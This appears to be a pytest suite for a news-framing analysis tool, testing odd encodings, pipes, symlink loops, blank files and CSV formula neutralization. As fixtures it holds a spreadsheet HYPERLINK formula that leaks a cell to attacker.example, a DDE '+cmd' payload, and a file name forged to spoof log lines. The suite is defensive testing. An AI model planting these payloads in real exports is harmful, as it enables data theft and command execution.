"""Hostile and awkward input: encodings, line breaks in cells, pipes and link loops, blank files, bad quotes.

Every case is a file a researcher could really end up passing (a Windows
"Unicode" export, a catalog cell pasted from a web page, a stray FIFO); each
must give one readable message naming the file and the fix, and never stop
the other files from being processed.
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from framing.core.errors import FramingError, Problem, printable
from framing.core.export import csv_text, neutralize_cell
from framing.detect.lexicon import load_lexicon
from framing.present.cli import main
from framing.present.render import csv_bytes
from framing.text.corpus import is_blank, load_corpus, read_catalog, read_text_file
from framing.text.html_text import html_to_text

REPO = Path(__file__).resolve().parents[1]
ARTICLE = ("The puppet regime spread hysterical propaganda, so-called experts said.\n\n"
           "The brutal regime denied the sham referendum in Donetsk, officials said.\n")
FORMULA_STARTS = ("=", "+", "-", "@", "\t")


def _problems_for(paths) -> list[Problem]:
    return load_corpus([str(p) for p in paths]).problems


# ------------------------------------------------------------------ 1. UTF-16 / UTF-32

@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_utf16_and_utf32_files_with_a_bom_are_read_like_utf8(tmp_path, encoding):
    # "utf-16" writes the platform BOM itself; the -le/-be codecs need it written explicitly,
    # as Notepad's "Unicode" and "Unicode big endian" exports do.
    data = ARTICLE.encode(encoding) if encoding in ("utf-16", "utf-32") else ("\ufeff" + ARTICLE).encode(encoding)
    (tmp_path / "windows_export.txt").write_bytes(data)
    (tmp_path / "same.txt").write_text(ARTICLE, encoding="utf-8")
    corpus = load_corpus([str(tmp_path)])
    assert corpus.problems == []
    docs = {d.doc_id: d for d in corpus.documents}
    assert docs["windows_export"].raw == docs["same"].raw == ARTICLE
    assert docs["windows_export"].meta["encoding"] == encoding[:6]
    from framing.api import analyze
    m = analyze([str(tmp_path)], sentiment=False).matches()
    per_doc = m.groupby("doc_id")["text"].apply(sorted).to_dict()
    assert per_doc["windows_export"] == per_doc["same"] and len(per_doc["same"]) >= 6


def test_a_binary_file_behind_a_utf16_bom_is_still_binary(tmp_path):
    # Random bytes behind FF FE: lone surrogates make it invalid UTF-16.
    f = tmp_path / "photo.txt"
    f.write_bytes(b"\xff\xfe" + random.Random(16).randbytes(6000))
    (p,) = _problems_for([f])
    assert p.path == str(f) and "binary" in p.reason and "convert" in p.fix


def test_a_utf16_records_file_is_reported_not_read_as_garbage(tmp_path):
    f = tmp_path / "export.jsonl"
    f.write_bytes('{"id": "a1", "text": "The puppet regime denied it."}\n'.encode("utf-16"))
    corpus = load_corpus([str(f)])
    assert corpus.documents == []
    (p,) = corpus.problems
    assert p.path == str(f) and "UTF-16" in p.reason and "UTF-8" in p.fix


def test_dashboard_upload_accepts_utf16_and_refuses_blank_text():
    from framing.present.dashboard.add import validate_upload
    check = validate_upload("windows_export.txt", ARTICLE.encode("utf-16"))
    assert check.ok and check.text == ARTICLE and check.encoding == "utf-16"
    for data in ("\u00a0 \u00a0\n".encode("utf-8"), "\u200b\u200b".encode("utf-16"), b" \t\r\n"):
        check = validate_upload("blank.txt", data)
        assert not check.ok and "blank.txt" in check.error and "empty" in check.error


# ------------------------------------------------------------------ 2. formulas after line breaks

def _spreadsheet_rows(text: str) -> list[list[str]]:
    """Split CSV as a spreadsheet does: quotes open at a field start; an unquoted CR, LF or CRLF ends a row."""
    rows: list[list[str]] = []
    row: list[str] = []
    cell: list[str] = []
    quoted, i = False, 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1:i + 2] == '"':
                cell.append('"')
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell.append(ch)
        elif ch == '"' and not cell:
            quoted = True
        elif ch == ",":
            row.append("".join(cell))
            cell = []
        elif ch in "\r\n":
            row.append("".join(cell))
            rows.append(row)
            row, cell = [], []
            if ch == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
        else:
            cell.append(ch)
        i += 1
    if cell or row:
        row.append("".join(cell))
        rows.append(row)
    return rows


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _live_cells(text: str) -> list[str]:
    """Return the cells (or lines inside cells) a spreadsheet would run as formulas; fail on broken rows."""
    rows = _spreadsheet_rows(text)
    assert rows, "no CSV"
    width = len(rows[0])
    assert all(len(r) == width for r in rows), "a line break inside a cell split a row"
    live = []
    for row in rows:
        for cell in row:
            if _is_number(cell):
                continue
            live += [ln for ln in re.split(r"\r\n|\r|\n", cell) if ln.startswith(FORMULA_STARTS)]
    return live


@pytest.mark.parametrize("value", ["Ledger\r=1+1", "Ledger\n=1+1", "Ledger\r\n@SUM(A1)", "\r+cmd", "a\r\r-2+3",
                                   "ok\n\t=HYPERLINK(1)"])
def test_every_line_start_in_a_cell_is_neutralized(value):
    text = csv_text(pd.DataFrame({"outlet": [value, "plain"], "n": [1, 2]}))
    assert _live_cells(text) == []
    # Still the same cell, only marked: a reader that honours quotes gets one row per record back.
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert len(back) == 3 and back[1][0].replace("'", "") == value.replace("'", "")


def test_neutralize_leaves_harmless_text_and_numbers_alone():
    assert neutralize_cell("Officials said\nthe regime denied it.") == "Officials said\nthe regime denied it."
    assert neutralize_cell(-2.5) == -2.5
    assert csv_text(pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})) == "a,b\nx,1\ny,2\n"


HOSTILE_OUTLET = 'Daily Ledger\r=HYPERLINK("http://attacker.example/?leak="&A1,"sources")'
HOSTILE_STANCE = "western_press\r+cmd|' /C calc'!A0"
HOSTILE_TEXT = ("The puppet regime spread hysterical propaganda, officials said.\r"
                "=1+1 was how so-called experts described the sham referendum.\r\n"
                "@SUM(A1) The brutal regime denied the report, according to Yonhap.\n")


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    """A folder whose catalog cells and text put formulas after bare carriage returns."""
    d = tmp_path_factory.mktemp("cr") / "news"
    d.mkdir()
    (d / "cr.txt").write_bytes(HOSTILE_TEXT.encode("utf-8"))
    (d / "plain.txt").write_text(ARTICLE, encoding="utf-8")
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["file", "outlet", "stance"])
    w.writerows([("cr.txt", HOSTILE_OUTLET, HOSTILE_STANCE), ("plain.txt", "-2+3 Media", "@western")])
    (d / "catalog.csv").write_text(buf.getvalue(), encoding="utf-8", newline="")
    return d


CLI_CSV = [["score", "--no-store", "--by", "document"], ["score", "--no-store", "--by", "segment"],
           ["score", "--no-store", "--by", "stance"], ["score", "--no-store", "--by", "outlet"],
           ["score", "--no-store", "--level", "match"], ["spans"], ["corpus"], ["credibility", "--by", "document"]]


@pytest.mark.parametrize("argv", CLI_CSV, ids=[" ".join(a) for a in CLI_CSV])
def test_cli_csv_outputs_have_no_live_formula_after_a_carriage_return(hostile_folder, tmp_path, argv, capsys):
    main(argv + [str(hostile_folder), "--format", "csv"])
    out = capsys.readouterr().out
    assert "Daily Ledger" in out or "puppet" in out
    assert _live_cells(out) == []
    target = tmp_path / "out.csv"
    main(argv + [str(hostile_folder), "--format", "csv", "--out", str(target)])
    assert _live_cells(target.read_bytes().decode("utf-8")) == []


@pytest.mark.parametrize("level", ["document", "segment", "match", "stance"])
def test_store_csv_exports_have_no_live_formula_after_a_carriage_return(hostile_folder, tmp_path, level):
    out = tmp_path / f"{level}.csv"
    main(["score", str(hostile_folder), "--store", str(tmp_path / "s.sqlite"), "--level" if level == "match"
          else "--by", level, "--out", str(out), "--quiet"])
    text = out.read_bytes().decode("utf-8")
    assert "Daily Ledger" in text
    assert _live_cells(text) == []


def test_dashboard_downloads_have_no_live_formula_after_a_carriage_return(hostile_folder):
    from framing.api import analyze
    a = analyze([str(hostile_folder)], sentiment=False)
    frames = [a.corpus(), a.matches(), a.scores("document"), a.scores("stance"), a.scores("outlet")]
    for df in frames:
        text = csv_bytes(df).decode("utf-8")
        assert _live_cells(text) == []
    assert "Daily Ledger" in csv_bytes(a.corpus()).decode("utf-8")


# ------------------------------------------------------------------ 4. deep nesting

def test_deeply_nested_divs_give_the_one_paragraph_inside():
    depth = 20_000  # 220 kB; took 16 s when the time grew with the square of the depth
    html = "<html><body>" + "<div>" * depth + "The regime denied the report." + "</div>" * depth + "</body></html>"
    assert html_to_text(html) == "The regime denied the report."


def test_block_and_inline_layout_is_kept():
    html = ("<html><head><title>Treaty signed</title></head><body><nav>Home</nav><article>"
            "<p>The <a href='#'>so-called</a> <em>experts</em> said.<br>Next line.</p><!-- ad -->"
            "<div><div><p>Inner paragraph.</p></div>Tail text.</div><ul><li>One</li><li>Two</li></ul>"
            "</article></body></html>")
    assert html_to_text(html) == ("Treaty signed\n\nThe so-called experts said.\n\nNext line.\n\n"
                                  "Inner paragraph.\n\nTail text.\n\nOne\n\nTwo")


# ------------------------------------------------------------------ 5. lexicon export round trip

def test_lexicon_csv_export_round_trips_through_lexicon_check(tmp_path, capsys):
    folder = tmp_path / "mine"
    folder.mkdir()
    out = folder / "entries.csv"
    assert main(["lexicon", "export", "--format", "csv", "--out", str(out)]) == 0
    shutil.copy(REPO / "lexicons" / "categories.csv", folder / "categories.csv")
    capsys.readouterr()
    assert main(["lexicon", "check", "--lexicons", str(folder)]) == 0
    original, again = load_lexicon(), load_lexicon(folder)
    assert again.problems == ()
    assert [(e.id, e.pattern, e.category, e.weight) for e in again.entries] == \
        [(e.id, e.pattern, e.category, e.weight) for e in original.entries]
    assert sum(e.pattern.startswith("=") for e in again.entries) >= 12


# ------------------------------------------------------------------ 6. pipes, devices, link loops

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX FIFOs and /dev/zero")
def test_fifo_device_link_and_symlink_loop_on_the_command_line(tmp_path):
    (tmp_path / "good.txt").write_text(ARTICLE, encoding="utf-8")
    os.mkfifo(tmp_path / "pipe.txt")
    os.symlink("/dev/zero", tmp_path / "zero.txt")
    os.symlink("loop.txt", tmp_path / "loop.txt")
    os.mkfifo(tmp_path / "records.jsonl")
    names = ["good.txt", "pipe.txt", "zero.txt", "loop.txt", "records.jsonl"]
    argv = [sys.executable, "-m", "framing", "score", "--no-store", "--by", "document", "--format", "csv",
            *[str(tmp_path / n) for n in names]]
    # A subprocess with a timeout: the old code hung on the FIFO and ran out of memory on /dev/zero.
    r = subprocess.run(argv, capture_output=True, text=True, timeout=300)
    assert r.returncode == 1
    assert "Traceback" not in r.stderr
    assert [row[0] for row in csv.reader(io.StringIO(r.stdout))][1:] == ["good"]
    lines = r.stderr.splitlines()
    # The store path walks the inputs with its own loop (stat first, then read): the same messages.
    stored = subprocess.run(argv[:4] + ["--store", str(tmp_path / "s.sqlite")] + argv[5:], capture_output=True,
                            text=True, timeout=300)
    assert stored.returncode == 1 and "Traceback" not in stored.stderr
    assert [row[0] for row in csv.reader(io.StringIO(stored.stdout))][1:] == ["good"]
    lines += stored.stderr.splitlines()
    for name, reason in [("pipe.txt", "named pipe (FIFO), not a regular file"), ("zero.txt", "character device"),
                         ("loop.txt", "symbolic link loop"), ("records.jsonl", "named pipe")]:
        found = [ln for ln in lines if f"{tmp_path / name}:" in ln]
        assert len(found) == 2, found  # once per run
        assert all(reason in ln and "(fix: " in ln for ln in found)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX FIFOs, sockets and /dev/zero")
def test_pipes_devices_sockets_and_dead_links_inside_a_folder_are_reported_one_line_each(tmp_path):
    import socket
    folder = tmp_path / "news"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / "sub" / "also_good.md").write_text(ARTICLE, encoding="utf-8")
    os.mkfifo(folder / "pipe.txt")
    os.symlink("/dev/zero", folder / "sub" / "zero.txt")
    os.symlink("loop.txt", folder / "loop.txt")
    os.symlink(tmp_path / "deleted.txt", folder / "gone.txt")
    os.mkfifo(folder / "feed.jsonl")
    os.mkfifo(folder / "not_a_document.bin")  # not a document name: passed over, like any other file
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(folder / "sub" / "agent.txt"))
        expected = [("pipe.txt", "named pipe (FIFO), not a regular file"), ("sub/zero.txt", "character device"),
                    ("loop.txt", "symbolic link loop"), ("gone.txt", "broken symbolic link"),
                    ("feed.jsonl", "named pipe"), ("sub/agent.txt", "a socket, not a regular file")]
        argv = [sys.executable, "-m", "framing", "score", str(folder), "--by", "document", "--format", "csv"]
        env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1] / "src"))
        for mode in (["--no-store"], ["--store", str(tmp_path / "s.sqlite")]):
            r = subprocess.run(argv + mode, capture_output=True, text=True, timeout=300, env=env)
            assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
            assert sorted([row[0] for row in csv.reader(io.StringIO(r.stdout))][1:]) == ["also_good", "good"]
            for name, reason in expected:
                found = [ln for ln in r.stderr.splitlines() if f"{folder / name}:" in ln]
                assert len(found) == 1 and reason in found[0] and "(fix: " in found[0], (mode, name, found)
            assert "not_a_document" not in r.stderr


def test_symlink_loop_in_expand_paths_is_a_problem_not_a_crash(tmp_path):
    os.symlink("b.txt", tmp_path / "a.txt")
    os.symlink("a.txt", tmp_path / "b.txt")
    (p,) = _problems_for([tmp_path / "a.txt"])
    assert p.path == str(tmp_path / "a.txt") and "loop" in p.reason and "remove it" in p.fix
    with pytest.raises(FramingError, match="loop"):
        read_text_file(tmp_path / "a.txt")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_lexicon_csvs_saved_as_utf16_with_a_bom_load_like_utf8(tmp_path, encoding):
    folder = tmp_path / "lex"
    shutil.copytree(load_lexicon().directory, folder)
    for p in folder.glob("*.csv"):
        text = p.read_text(encoding="utf-8")
        # "Unicode text" from a spreadsheet: the platform BOM ("utf-16"), or big-endian with its BOM.
        p.write_bytes(("\ufeff" + text).encode(encoding) if encoding.endswith("-be") else text.encode(encoding))
    original, again = load_lexicon(), load_lexicon(folder)
    assert again.problems == ()
    assert [(e.id, e.pattern, e.category, e.weight, e.rationale) for e in again.entries] == \
        [(e.id, e.pattern, e.category, e.weight, e.rationale) for e in original.entries]
    assert main(["lexicon", "check", "--lexicons", str(folder)]) == 0


def test_an_undecodable_lexicon_csv_is_named_with_its_encoding_and_byte(tmp_path):
    folder = tmp_path / "lex"
    shutil.copytree(load_lexicon().directory, folder)
    (folder / "emotive.csv").write_bytes((folder / "emotive.csv").read_text(encoding="utf-8").encode("utf-16")
                                         + b"\x00")  # a UTF-16 file cut in the middle of a character
    (folder / "threat.csv").write_bytes((folder / "threat.csv").read_bytes() + "café\n".encode("latin-1"))
    problems = {Path(p.path).name: p for p in load_lexicon(folder).problems}
    assert "not UTF-16" in problems["emotive.csv"].reason and "at byte" in problems["emotive.csv"].reason
    assert "not UTF-8" in problems["threat.csv"].reason and "UTF-8" in problems["threat.csv"].fix
    assert main(["lexicon", "check", "--lexicons", str(folder)]) == 1


# ------------------------------------------------------------------ 7. control characters in names

def test_control_characters_in_file_names_are_escaped(tmp_path, capsys):
    (tmp_path / "good.txt").write_text(ARTICLE, encoding="utf-8")
    forged = tmp_path / "x\nframing: run 1 done: scored 99, reused 0, skipped 0\x1b[2K.txt"
    forged.write_text("", encoding="utf-8")
    assert main(["score", "--no-store", "--by", "document", "--format", "csv", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert not any(ln.startswith("framing: run 1 done: scored 99") for ln in err.splitlines())
    assert "\x1b" not in err
    assert "x\\nframing: run 1 done: scored 99, reused 0, skipped 0\\x1b[2K.txt: file is empty" in err
    store = tmp_path / "s\nframing: run 2 done: scored 99.sqlite"
    assert main(["score", str(tmp_path / "good.txt"), "--store", str(store), "--by", "document"]) == 0
    err = capsys.readouterr().err
    assert not any(ln.startswith("framing: run 2 done: scored 99") for ln in err.splitlines())
    assert "store " + str(tmp_path / "s\\nframing: run 2 done: scored 99.sqlite") in err


def test_problem_and_error_text_is_one_printable_line():
    p = Problem("a\u202etxt.exe\r\n.txt", 3, "bad\x00 row", "fix\tit")
    assert str(p) == "a\\u202etxt.exe\\r\\n.txt:3: bad\\x00 row (fix: fix\\tit)"
    e = FramingError("no such file", "new\nline.txt", fix="check the path")
    assert str(e) == "new\\nline.txt: no such file (fix: check the path)" and "\n" not in str(e)
    assert printable("Донецк — plain text") == "Донецк — plain text"


# ------------------------------------------------------------------ 8. blank files

@pytest.mark.parametrize("content", [" \t\r\n\n  ", "\u00a0\u00a0\n\u00a0", "\u200b\u200c\u200d\ufeff",
                                     "\u2060\u00a0 \u3000\n"])
def test_blank_files_are_reported_empty_and_exit_1(tmp_path, content, capsys):
    (tmp_path / "good.txt").write_text(ARTICLE, encoding="utf-8")
    (tmp_path / "blank.txt").write_text(content, encoding="utf-8")
    (tmp_path / "blank.html").write_text(f"<html><body><p>{content}</p></body></html>", encoding="utf-8")
    assert main(["score", "--no-store", "--by", "document", "--format", "csv", str(tmp_path)]) == 1
    captured = capsys.readouterr()
    assert [r[0] for r in csv.reader(io.StringIO(captured.out))][1:] == ["good"]
    assert f"{tmp_path / 'blank.txt'}: file is empty" in captured.err
    assert f"{tmp_path / 'blank.html'}: HTML page has no readable text" in captured.err
    store = tmp_path / "s.sqlite"
    assert main(["score", str(tmp_path), "--store", str(store), "--by", "document", "--format", "csv"]) == 1
    captured = capsys.readouterr()
    assert [r[0] for r in csv.reader(io.StringIO(captured.out))][1:] == ["good"]
    assert "skipped 2" in captured.err


def test_is_blank_keeps_real_text():
    assert is_blank("\u00a0\u200b \n") and not is_blank("\u200bx") and not is_blank("Донецк")


# ------------------------------------------------------------------ 9. unbalanced quotes in a lexicon

HEADER = "id,pattern,category,weight,neutral_alternative,rationale,source\n"


def test_an_open_quote_no_longer_swallows_the_rows_after_it(tmp_path):
    folder = tmp_path / "lex"
    folder.mkdir()
    shutil.copy(REPO / "lexicons" / "categories.csv", folder / "categories.csv")
    rows = [f"nc.word{i},tyrant{i},name_calling,1,,Labels an opponent (variant {i}).,own\n" for i in range(80)]
    rows[5] = 'nc.word5,"tyrant5,name_calling,1,,Labels an opponent (variant 5).,own\n'  # quote never closed
    rows[77] = 'nc.word77,tyrant77,name_calling,1,,Called a "tyrant" by the ministry.,own\n'
    (folder / "labels.csv").write_text(HEADER + "".join(rows), encoding="utf-8")
    lex = load_lexicon(folder)
    assert len(lex.entries) == 79 and "nc.word6" in {e.id for e in lex.entries}
    (p,) = lex.problems
    assert p.path == str(folder / "labels.csv") and p.line == 7
    assert "quote" in p.reason and "never closed" in p.reason and '""' in p.fix


def test_an_open_quote_at_the_end_of_a_categories_file_is_reported(tmp_path):
    folder = tmp_path / "lex"
    folder.mkdir()
    cats = (REPO / "lexicons" / "categories.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    cats.insert(2, 'broken,"family,true,desc,,,#ffe08a\n')
    (folder / "categories.csv").write_text("".join(cats), encoding="utf-8")
    (folder / "labels.csv").write_text(HEADER + "nc.x,tyrant,name_calling,1,,Labels an opponent.,own\n",
                                       encoding="utf-8")
    lex = load_lexicon(folder)
    assert [e.id for e in lex.entries] == ["nc.x"]
    assert any(p.line == 3 and "never closed" in p.reason for p in lex.problems)
    assert len(lex.categories) == len(load_lexicon().categories)


# ------------------------------------------------------------------ also: catalogs and imports

def test_duplicate_catalog_rows_are_reported_with_both_lines(tmp_path):
    cat = tmp_path / "catalog.csv"
    cat.write_text("file,outlet,stance,part,split,kind\n"
                   "a.txt,TASS,russian_state,,,\n"
                   "b.txt,Reuters,western_press,,,\n"
                   "a.txt,RT,russian_state,,,\n"
                   "b.txt,Reuters,western_press,1,lines,comment\n"
                   "b.txt,Reuters,western_press,01,lines,comment\n", encoding="utf-8")
    c = read_catalog(cat)
    assert c.documents["a.txt"]["outlet"] == "TASS"
    assert [(p.line, p.reason) for p in c.problems] == [
        (4, "duplicate catalog row for 'a.txt' (first at line 2); this row is ignored"),
        (6, "duplicate catalog row for 'b.txt' part 01 (first at line 5); this row is ignored")]
    assert all("keep one row" in p.fix for p in c.problems)


def test_lexicon_import_refuses_to_write_an_empty_file(tmp_path, capsys):
    dic = tmp_path / "LIWC.dic"
    dic.write_text("%\n1\tposemo\n%\n<of> 1\n", encoding="utf-8")  # only a conditional line: nothing usable
    out = tmp_path / "imported.csv"
    assert main(["lexicon", "import", str(dic), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert not out.exists()
    (line,) = [ln for ln in err.splitlines() if "nothing was imported" in ln]
    assert str(dic) in line and "was not written" in line and "fix:" in line
